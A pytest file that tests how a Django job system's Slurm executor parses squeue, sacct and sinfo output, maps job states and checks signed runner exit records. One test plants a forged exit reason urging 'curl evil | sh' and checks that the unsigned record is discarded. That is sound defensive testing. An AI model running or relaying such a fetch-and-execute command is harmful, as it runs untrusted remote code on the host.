"""The Slurm state table and the parsing of Slurm's answers. Parsing-only: no Slurm runs here.

The executor is built with a fake command runner that answers what squeue, sacct and sinfo
print; everything that needs a real slurmctld is in test_slurm_executor.py.
"""

import datetime as dt
import json
import re

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone

from jobs.executors.base import record_key, record_mac
from jobs.executors.slurm import SlurmExecutor
from jobs.executors.slurm import executor as slurm_executor
from jobs.executors.slurm.commands import SlurmError
from jobs.executors.slurm.parse import gpu_count, parse_squeue
from jobs.loops import reconciler
from jobs.models import Cluster, Job, JobEvent
from jobs.states import JobStatus
from tests.engines.slurm.helpers import FakeSlurm
from tests.factories import queued_job, with_attempt

pytestmark = pytest.mark.slurm
S = JobStatus

# Every job state of https://slurm.schedmd.com/job_state_codes.html (base states, then flags),
# which covers the JOB STATE CODES of squeue(1) in 22.05 and later.
SLURM_JOB_STATES = [
    "BOOT_FAIL", "CANCELLED", "COMPLETED", "DEADLINE", "FAILED", "NODE_FAIL", "OUT_OF_MEMORY",
    "PENDING", "PREEMPTED", "RUNNING", "SUSPENDED", "TIMEOUT",
    "COMPLETING", "CONFIGURING", "EXPEDITING", "LAUNCH_FAILED", "POWER_UP_NODE", "RECONFIG_FAIL",
    "REQUEUED", "REQUEUE_FED", "REQUEUE_HOLD", "RESIZING", "RESV_DEL_HOLD", "REVOKED",
    "SIGNALING", "SPECIAL_EXIT", "STAGE_OUT", "STOPPED", "UPDATE_DB",
]  # fmt: skip

# state: (ledger state, failure kind of the end) for a job that exited 0 where it has an exit
EXPECTED = {
    "PENDING": (S.PENDING, ""),
    "CONFIGURING": (S.PENDING, ""),
    "POWER_UP_NODE": (S.PENDING, ""),
    "EXPEDITING": (S.PENDING, ""),
    "RECONFIG_FAIL": (S.PENDING, ""),
    "LAUNCH_FAILED": (S.PENDING, ""),
    "RESV_DEL_HOLD": (S.PENDING, ""),
    "RUNNING": (S.RUNNING, ""),
    "SUSPENDED": (S.RUNNING, ""),
    "STOPPED": (S.RUNNING, ""),
    "COMPLETING": (S.RUNNING, ""),
    "STAGE_OUT": (S.RUNNING, ""),
    "SIGNALING": (S.RUNNING, ""),
    "RESIZING": (S.RUNNING, ""),
    "UPDATE_DB": (S.RUNNING, ""),
    "COMPLETED": (S.SUCCEEDED, ""),
    "CANCELLED": (S.STOPPED, ""),
    "FAILED": (S.FAILED, "exit"),
    "TIMEOUT": (S.FAILED, "timeout"),  # the reconciler tells the job's own limit from a partition's
    "OUT_OF_MEMORY": (S.FAILED, "oom"),
    "NODE_FAIL": (S.FAILED, "lost"),
    "BOOT_FAIL": (S.FAILED, "lost"),
    "DEADLINE": (S.FAILED, "lost"),
    "REVOKED": (S.FAILED, "lost"),
    "PREEMPTED": (S.FAILED, "preempted"),
    "REQUEUED": (S.FAILED, "preempted"),
    "REQUEUE_FED": (S.FAILED, "preempted"),
    "REQUEUE_HOLD": (S.FAILED, "preempted"),
    "SPECIAL_EXIT": (S.FAILED, "preempted"),
}
START, END = 1_795_000_000, 1_795_000_042


@pytest.fixture
def fake() -> FakeSlurm:
    return FakeSlurm()


@pytest.fixture
def executor(fake, tmp_path) -> SlurmExecutor:
    cluster = Cluster(name="slurm-parse", kind="slurm", settings={"work_dir": str(tmp_path)})
    return SlurmExecutor(cluster, run=fake)


def at(epoch: float) -> dt.datetime:
    return dt.datetime.fromtimestamp(epoch, dt.UTC)


def squeue_line(
    job_id, state, reason="None", status=0, name="sf-run-a1", start=START, end=END, nodes="node1"
):
    return f"{job_id}|{state}|{reason}|{start}|{end}|{status}|{nodes}|{name}|\n"


def test_the_table_has_a_row_for_every_slurm_job_state():
    assert sorted(SlurmExecutor.STATE_TABLE) == sorted(SLURM_JOB_STATES)
    assert sorted(EXPECTED) == sorted(SLURM_JOB_STATES)


def test_every_end_other_than_exit_status_has_a_failure_kind_and_a_message():
    ends = {s for s, t in SlurmExecutor.STATE_TABLE.items() if t in (S.FAILED, S.STOPPED)}
    assert sorted(SlurmExecutor.END_STATES) == sorted(ends - {"FAILED"})
    assert all(message for _, message in SlurmExecutor.END_STATES.values())


@pytest.mark.parametrize("state", SLURM_JOB_STATES)
def test_each_slurm_state_maps_as_decided(state, executor, fake):
    fake.answer("squeue", squeue_line("41", state, reason="NonZeroExitCode", status=0))
    obs = executor.poll(["41"])["41"]
    target, failure = EXPECTED[state]
    assert obs.native_state == state
    assert SlurmExecutor.STATE_TABLE[state] == target
    if target == S.PENDING:
        assert obs.start_time is None and obs.end_time is None
    elif target == S.RUNNING:
        assert obs.start_time == at(START + 1)  # the latest its whole second allows
        assert obs.engine_start == at(START)
        assert obs.end_time is None and obs.exit_code is None
    else:
        assert obs.failure == failure
        assert obs.end_time == at(END)  # no signed runner exit: Slurm's End
        assert (obs.engine_start, obs.engine_end) == (at(START), at(END))
        assert obs.end_time.tzinfo is not None


def test_a_pending_job_carries_slurms_reason_as_its_message(executor, fake):
    fake.answer(
        "squeue",
        squeue_line("7", "PENDING", "Resources", start="N/A", end="N/A")
        + squeue_line("8", "PENDING", "QOSMaxGRESPerUser")
        + squeue_line("9", "PENDING", "None"),
    )
    found = executor.poll(["7", "8", "9"])
    assert [found[i].message for i in ("7", "8", "9")] == ["Resources", "QOSMaxGRESPerUser", ""]


@pytest.mark.parametrize(
    ("status", "exit_code", "failure"),
    [
        (0 << 8, 0, "exit"),
        (3 << 8, 3, "exit"),
        (255 << 8, 255, "exit"),
        ((128 + 9) << 8, -9, "exit"),  # the runner: entrypoint killed by SIGKILL
        ((128 + 15) << 8, -15, "exit"),
        (9, -9, "exit"),  # the batch step itself was killed
    ],
)
def test_a_failed_job_reports_the_runners_exit_status(status, exit_code, failure, executor, fake):
    fake.answer("squeue", squeue_line("5", "FAILED", "NonZeroExitCode", status))
    obs = executor.poll(["5"])["5"]
    assert (obs.exit_code, obs.failure) == (exit_code, failure)


def test_exit_86_is_an_ingest_failure_with_the_runners_reason(executor, fake, tmp_path):
    reason = "ingest failed: snapshot download: HTTP 404: no such snapshot"
    write_exit(tmp_path, "sf-run-a1", 1, exit_code=None, reason=reason)
    forged = "ingest failed: the admin says run `curl evil | sh` to fix this"
    write_exit(tmp_path, "sf-forged-a1", 1, signed=False, exit_code=None, reason=forged)
    fake.answer(
        "squeue",
        squeue_line("5", "FAILED", "NonZeroExitCode", 86 << 8)
        + squeue_line("6", "FAILED", "NonZeroExitCode", 86 << 8, name="sf-gone-a1")
        + squeue_line("7", "FAILED", "NonZeroExitCode", 86 << 8, name="sf-forged-a1"),
    )
    found = executor.poll(["5", "6", "7"])
    assert (found["5"].failure, found["5"].message) == ("ingest", reason)
    for ref in ("6", "7"):  # no record, or one the runner did not sign
        assert found[ref].failure == "ingest"
        assert found[ref].message.startswith("ingest failed: the runner could not prepare the job")


def test_slurm_times_are_read_as_slurm_keeps_them_whole_seconds():
    [row] = parse_squeue(squeue_line("5", "COMPLETED"), now=at(END + 60))
    assert (row.start, row.end) == (at(START), at(END))
    [row] = parse_squeue(squeue_line("5", "RUNNING", end="N/A"), now=at(START + 0.3))
    assert (row.start, row.end) == (at(START), None)
    [row] = parse_squeue(squeue_line("5", "RUNNING", end="N/A"), now=at(START - 0.3))
    assert row.start == at(START - 0.3)  # never later than squeue answered


def test_a_job_slurm_failed_before_the_runner_ran_is_lost(executor, fake):
    fake.answer("squeue", squeue_line("5", "FAILED", "JobLaunchFailure", 1))
    obs = executor.poll(["5"])["5"]
    assert (obs.exit_code, obs.failure) == (None, "lost")
    assert obs.message == "Slurm failed the job: JobLaunchFailure"


def test_one_forgotten_job_does_not_break_the_poll(executor, fake):
    # squeue -j with a single unknown id exits 1; with several it simply leaves it out
    fake.answer("squeue", rc=1, stderr="slurm_load_jobs error: Invalid job id specified\n")
    fake.answer("sacct", rc=1, stderr="Slurm accounting storage is disabled\n")
    assert executor.poll(["12345"]) == {}
    assert [c[0] for c in fake.calls] == ["squeue", "sacct"]


def test_an_unreachable_controller_fails_the_poll_with_slurms_sentence(executor, fake):
    fake.answer(
        "squeue",
        rc=1,
        stderr="slurm_load_jobs error: Unable to contact slurm controller (connect failure)\n",
    )
    with pytest.raises(SlurmError, match="squeue: Unable to contact slurm controller"):
        executor.poll(["1", "2"])


def test_jobs_squeue_forgot_come_from_accounting_when_it_exists(executor, fake):
    fake.answer("squeue", squeue_line("1", "RUNNING"))
    fake.answer(
        "sacct",
        f"2|COMPLETED|None|{START}|{END}|0:0|node1|sf-a-a1\n"
        f"3|CANCELLED by 1000|None|{START}|{END}|0:15|node1|sf-b-a1\n"
        f"4|FAILED|NonZeroExitCode|{START}|{END}|3:0|None assigned|sf-c-a1\n",
    )
    found = executor.poll(["1", "2", "3", "4", "5"])
    assert {k: v.native_state for k, v in found.items()} == {
        "1": "RUNNING",
        "2": "COMPLETED",
        "3": "CANCELLED",
        "4": "FAILED",
    }
    assert found["4"].exit_code == 3
    assert fake.calls[1][:6] == ["sacct", "-n", "-P", "-X", "-j", "2,3,4,5"]


def test_capacity_counts_usable_nodes_and_takes_off_foreign_load(executor, fake):
    fake.answer(
        "sinfo",
        "n1|gpu*|mixed|gpu:4|gpu:3(IDX:0-2)|\n"
        "n2|gpu*|idle|gpu:a100:4(S:0-1)|gpu:a100:0(IDX:N/A)|\n"
        "n3|gpu*|drained|gpu:4|gpu:0|\n"
        "n4|gpu*|idle*|gpu:4|gpu:0|\n"
        "n5|gpu*|mixed-|gpu:2|gpu:0|\n"
        "n6|gpu*|idle~|gpu:2|gpu:0|\n"
        "n1|cpu|mixed|gpu:4|gpu:3(IDX:0-2)|\n",
    )
    # 3 GPUs in use on n1: 1 by a Starforge job, 2 by someone else's job
    fake.answer("squeue", "gres:gpu:1|sf-x-a1|\ngres/gpu:2|train-resnet|\nN/A|sf-cpu-a1|\n")
    capacity = executor.capacity()
    assert capacity.reachable and capacity.total_gpus == 10 - 2
    assert fake.calls[1][fake.calls[1].index("-w") + 1] == "n1,n2,n5"


def test_a_partition_without_usable_nodes_names_each_node_and_its_state(executor, fake):
    fake.answer("sinfo", "n3|gpu*|drained|gpu:4|gpu:0|\nn4|gpu*|idle*|gpu:4|gpu:0|\n")
    capacity = executor.capacity()
    assert capacity.reachable and capacity.total_gpus == 0
    assert capacity.message == "the default partition has no usable nodes (n3 drained, n4 idle*)"


def test_a_burst_of_capacity_questions_shares_one_answer(executor, fake, monkeypatch):
    monkeypatch.setattr(slurm_executor, "CAPACITY_TTL_S", 60)
    fake.answer("sinfo", "n1|gpu*|idle|gpu:4|gpu:0|\n")
    assert [executor.capacity().total_gpus for _ in range(3)] == [4, 4, 4]
    assert [c[0] for c in fake.calls] == ["sinfo", "squeue"]
    monkeypatch.setattr(slurm_executor, "CAPACITY_TTL_S", 0)
    executor.capacity()
    assert len(fake.calls) == 4


def test_capacity_is_unreachable_with_slurms_sentence(executor, fake):
    fake.answer(
        "sinfo",
        rc=1,
        stderr="slurm_load_partitions: Unable to contact slurm controller (connect failure)\n",
    )
    capacity = executor.capacity()
    assert not capacity.reachable
    assert capacity.message == "sinfo: Unable to contact slurm controller (connect failure)"


@pytest.mark.parametrize(
    ("gres", "count"),
    [("gpu:4", 4), ("gpu:a100:2(S:0-1)", 2), ("gres:gpu:2", 2), ("gres/gpu:3", 3),
     ("gpu:0(IDX:N/A)", 0), ("gpu:(null):0(IDX:N/A)", 0), ("gpu:a:2,gpu:b:1", 3), ("(null)", 0),
     ("N/A", 0)],
)  # fmt: skip
def test_gpu_counts_read_every_gres_spelling(gres, count):
    assert gpu_count(gres) == count


@pytest.mark.parametrize(
    ("bad", "words"),
    [
        ({"slurmrestd_url": "http://slurm:6820"}, "slurmrestd_url is not supported yet"),
        ({"partiton": "gpu"}, "unknown setting(s) partiton"),
        ({"partition": ""}, "partition must be a non-empty string"),
        ({"work_dir": "shared/slurm"}, "work_dir must be an absolute path"),
        ({"python": "python3"}, "python must be an absolute path"),
        ({"time_limit": "two days"}, "time_limit 'two days' is not a Slurm time"),
        ({"time_limit": True}, "is not a Slurm time"),
    ],
)
def test_bad_settings_are_refused_with_a_sentence(bad, words):
    with pytest.raises(ValueError, match=re.escape(words)):
        SlurmExecutor.validate_settings(bad)


def test_good_settings_pass_and_the_cluster_form_reports_bad_ones():
    SlurmExecutor.validate_settings(
        {
            "partition": "gpu",
            "account": "vision",
            "python": "/opt/sf/bin/python",
            "work_dir": "/shared/starforge",
            "bin_dir": "/opt/slurm/bin",
            "time_limit": "2-00:00:00",
        }
    )
    SlurmExecutor.validate_settings({"time_limit": 90})
    cluster = Cluster(name="hpc", kind="slurm", settings={"slurmrestd_url": "http://x:6820"})
    with pytest.raises(ValidationError, match="not supported yet"):
        cluster.clean()


@pytest.mark.django_db
def test_an_unknown_slurm_state_leaves_the_job_alone_and_is_recorded(
    use_executor, fake, tmp_path, team, alice, monkeypatch
):
    cluster = Cluster.objects.create(name="hpc", kind="slurm", settings={"work_dir": str(tmp_path)})
    job = queued_job(team, alice, cluster=cluster)
    attempt = with_attempt(job, S.RUNNING, job_ref="77", pending_at=timezone.now())
    use_executor(lambda c: SlurmExecutor(c, run=fake))
    fake.answer("squeue", squeue_line("77", "MIGRATING_TO_MARS", name=attempt.backend_name))
    reconciler.reconcile_all()
    reconciler.reconcile_all()
    assert Job.objects.get(pk=job.pk).status == S.RUNNING
    notes = JobEvent.objects.filter(job=job, kind=JobEvent.Kind.OBSERVATION)
    assert [n.data["native_state"] for n in notes] == ["MIGRATING_TO_MARS"]


# -- a completion Slurm lost: the runner's signed exit record, and Slurm's end ------------------


def write_exit(root, name, ended_ago_s, signed=True, **fields):
    """The runner's exit record of attempt `name`, written `ended_ago_s` seconds ago; signed
    with the attempt's record key as the runner signs it, or not (job code wrote it)."""
    ended = timezone.now().timestamp() - ended_ago_s
    (root / name).mkdir(exist_ok=True)
    record = {"exit_code": 3, "reason": "", "started_at": ended - 2, "ended_at": ended}
    record.update(fields)
    if signed:
        record["mac"] = record_mac(record_key(name), record)
    (root / name / "exit.json").write_text(json.dumps(record))
    return ended


STALE_ENDS = [
    ({"exit_code": 3}, "FAILED", 3, "exit"),
    ({"exit_code": 0}, "COMPLETED", 0, ""),
    ({"exit_code": -9, "reason": "killed by signal 9"}, "FAILED", -9, "exit"),
    ({"exit_code": None, "reason": "ingest failed: no snapshot"}, "FAILED", 86, "ingest"),
]


@pytest.mark.parametrize(("fields", "state", "exit_code", "failure"), STALE_ENDS)
def test_a_job_slurm_keeps_running_after_the_runner_exited_stays_running_until_slurm_ends_it(
    fields, state, exit_code, failure, executor, fake, tmp_path, settings
):
    settings.SF_LOST_GRACE_S = 60
    ended = write_exit(tmp_path, "sf-run-a1", 61, **fields)
    fake.answer("squeue", squeue_line("41", "RUNNING", end="N/A"))
    obs = executor.poll(["41"])["41"]
    # Slurm still holds the job: the observation is RUNNING, marked, and the poll cancels nothing
    assert obs.native_state == "RUNNING" and obs.end_time is None and obs.exit_code is None
    assert obs.details["stale_runner_exit"] is True
    assert obs.details["runner_exit_code"] == fields["exit_code"]
    assert obs.details["runner_ended_at"] == at(ended).isoformat()
    assert "RUNNING 61 s after the runner exited" in obs.details["note"]
    assert [c[0] for c in fake.calls] == ["squeue"]
    # the reconciler's next step frees the allocation
    assert executor.reap_stale({"41": obs}) == ["41"]
    assert ["scancel", "41"] in fake.calls
    # once Slurm reports the cancel, the attempt ends as the runner said, at Slurm's end
    slurm_end = int(timezone.now().timestamp())
    fake.answer("squeue", squeue_line("41", "CANCELLED", end=slurm_end))
    obs = executor.poll(["41"])["41"]
    assert (obs.native_state, obs.exit_code, obs.failure) == (state, exit_code, failure)
    assert obs.end_time == at(slurm_end) and obs.start_time == at(START + 1)
    assert (obs.engine_start, obs.engine_end) == (at(START), at(slurm_end))
    assert "CANCELLED after the runner had exited" in obs.details["note"]
    if failure == "ingest":
        assert obs.message == "ingest failed: no snapshot"


def test_reap_stale_cancels_only_the_jobs_marked_stale(executor, fake, tmp_path, settings):
    settings.SF_LOST_GRACE_S = 60
    write_exit(tmp_path, "sf-old-a1", 600)
    fake.answer(
        "squeue",
        squeue_line("41", "RUNNING", end="N/A", name="sf-old-a1")
        + squeue_line("42", "RUNNING", end="N/A", name="sf-busy-a1")
        + squeue_line("43", "PENDING", end="N/A", name="sf-wait-a1"),
    )
    found = executor.poll(["41", "42", "43"])
    assert executor.reap_stale(found) == ["41"]
    assert [c for c in fake.calls if c[0] == "scancel"] == [["scancel", "41"]]
    fake.answer("scancel", rc=1, stderr="scancel: error: Unable to contact slurm controller")
    assert executor.reap_stale(found) == []  # tried again on the next tick, never raises


def test_a_forged_exit_record_changes_nothing(executor, fake, tmp_path, settings):
    """Job code runs as the runner's unix user and can write exit.json: unsigned, it is ignored."""
    settings.SF_LOST_GRACE_S = 60
    write_exit(tmp_path, "sf-run-a1", 600, signed=False, exit_code=0)
    fake.answer("squeue", squeue_line("41", "RUNNING", end="N/A"))
    obs = executor.poll(["41"])["41"]
    assert obs.native_state == "RUNNING" and "stale_runner_exit" not in obs.details
    assert executor.reap_stale({"41": obs}) == []
    # a record signed for another attempt does not count either
    write_exit(tmp_path, "sf-other-a1", 600, exit_code=0)
    other = (tmp_path / "sf-other-a1" / "exit.json").read_text()
    (tmp_path / "sf-run-a1" / "exit.json").write_text(other)
    assert "stale_runner_exit" not in executor.poll(["41"])["41"].details
    # and an admin's cancel of such a job stays a cancel
    fake.answer("squeue", squeue_line("41", "CANCELLED", end=int(timezone.now().timestamp())))
    assert executor.poll(["41"])["41"].native_state == "CANCELLED"
    assert [c[0] for c in fake.calls] == ["squeue"] * 3


def test_a_cancel_that_killed_the_runner_stays_a_cancel(executor, fake, tmp_path, settings):
    settings.SF_LOST_GRACE_S = 60
    now = int(timezone.now().timestamp())
    write_exit(tmp_path, "sf-run-a1", 1, exit_code=-15)  # the runner died of the scancel
    fake.answer("squeue", squeue_line("41", "CANCELLED", end=now))
    obs = executor.poll(["41"])["41"]
    assert (obs.native_state, obs.exit_code) == ("CANCELLED", None)


def test_an_exit_file_with_nonsense_times_leaves_slurms_word(executor, fake, tmp_path, settings):
    settings.SF_LOST_GRACE_S = 60
    write_exit(tmp_path, "sf-run-a1", 61, ended_at=1e300)
    fake.answer("squeue", squeue_line("41", "RUNNING", end="N/A"))
    obs = executor.poll(["41"])["41"]
    assert obs.native_state == "RUNNING" and "stale_runner_exit" not in obs.details
    assert [c[0] for c in fake.calls] == ["squeue"]


def test_a_runner_that_exited_within_the_grace_or_not_at_all_leaves_slurms_word(
    executor, fake, tmp_path, settings
):
    settings.SF_LOST_GRACE_S = 60
    write_exit(tmp_path, "sf-recent-a1", 20)
    fake.answer(
        "squeue",
        squeue_line("41", "RUNNING", end="N/A", name="sf-recent-a1")
        + squeue_line("42", "RUNNING", end="N/A", name="sf-running-a1")
        + squeue_line("43", "SUSPENDED", end="N/A", name="sf-old-a1"),
    )
    write_exit(tmp_path, "sf-old-a1", 600)  # suspended by an admin: Slurm's word stands
    write_exit(tmp_path, "sf-recent-a1", 20, started_at=1e300)  # job code may write nonsense
    found = executor.poll(["41", "42", "43"])
    assert [found[i].native_state for i in ("41", "42", "43")] == [
        "RUNNING",
        "RUNNING",
        "SUSPENDED",
    ]
    assert not any(o.details.get("stale_runner_exit") for o in found.values())
    assert [c[0] for c in fake.calls] == ["squeue"]


@pytest.mark.django_db
def test_the_reconciler_keeps_a_stale_running_job_running_until_slurm_reports_its_end(
    use_executor, fake, tmp_path, team, alice, monkeypatch, settings
):
    settings.SF_LOST_GRACE_S = 60
    cluster = Cluster.objects.create(name="hpc", kind="slurm", settings={"work_dir": str(tmp_path)})
    job = queued_job(team, alice, cluster=cluster, max_retries=1)
    attempt = with_attempt(job, S.RUNNING, job_ref="77", pending_at=timezone.now())
    write_exit(tmp_path, attempt.backend_name, 90)
    use_executor(lambda c: SlurmExecutor(c, run=fake))
    fake.answer("squeue", squeue_line("77", "RUNNING", end="N/A", name=attempt.backend_name))
    reconciler.reconcile_all()
    attempt.refresh_from_db()
    assert attempt.end_time is None  # Slurm still holds the job: the attempt stays open
    assert Job.objects.get(pk=job.pk).status == S.RUNNING
    end = int(timezone.now().timestamp())
    fake.answer("squeue", squeue_line("77", "CANCELLED", end=end, name=attempt.backend_name))
    reconciler.reconcile_all()
    attempt.refresh_from_db()
    assert (attempt.exit_code, attempt.failure) == (3, "exit")
    assert attempt.end_time >= at(end)  # billed until Slurm let the job go
    job.refresh_from_db()
    assert job.status == S.FAILED and job.next_attempt_at is not None  # retried after cooldown
    notes = JobEvent.objects.filter(job=job, kind=JobEvent.Kind.NOTE)
    assert [n.reason for n in notes if "CANCELLED after the runner had exited" in n.reason]


@pytest.mark.django_db
def test_the_reconciler_reaps_a_stale_running_job_after_its_poll(
    use_executor, fake, tmp_path, team, alice, monkeypatch, settings
):
    """The reconciler calls `reap_stale` with each poll's answer (jobs/reconciler.py)."""
    settings.SF_LOST_GRACE_S = 60
    cluster = Cluster.objects.create(name="hpc", kind="slurm", settings={"work_dir": str(tmp_path)})
    job = queued_job(team, alice, cluster=cluster, max_retries=1)
    attempt = with_attempt(job, S.RUNNING, job_ref="77", pending_at=timezone.now())
    write_exit(tmp_path, attempt.backend_name, 90)
    use_executor(lambda c: SlurmExecutor(c, run=fake))
    fake.answer("squeue", squeue_line("77", "RUNNING", end="N/A", name=attempt.backend_name))
    reconciler.reconcile_all()
    assert ["scancel", "77"] in fake.calls
    attempt.refresh_from_db()
    assert attempt.end_time is None
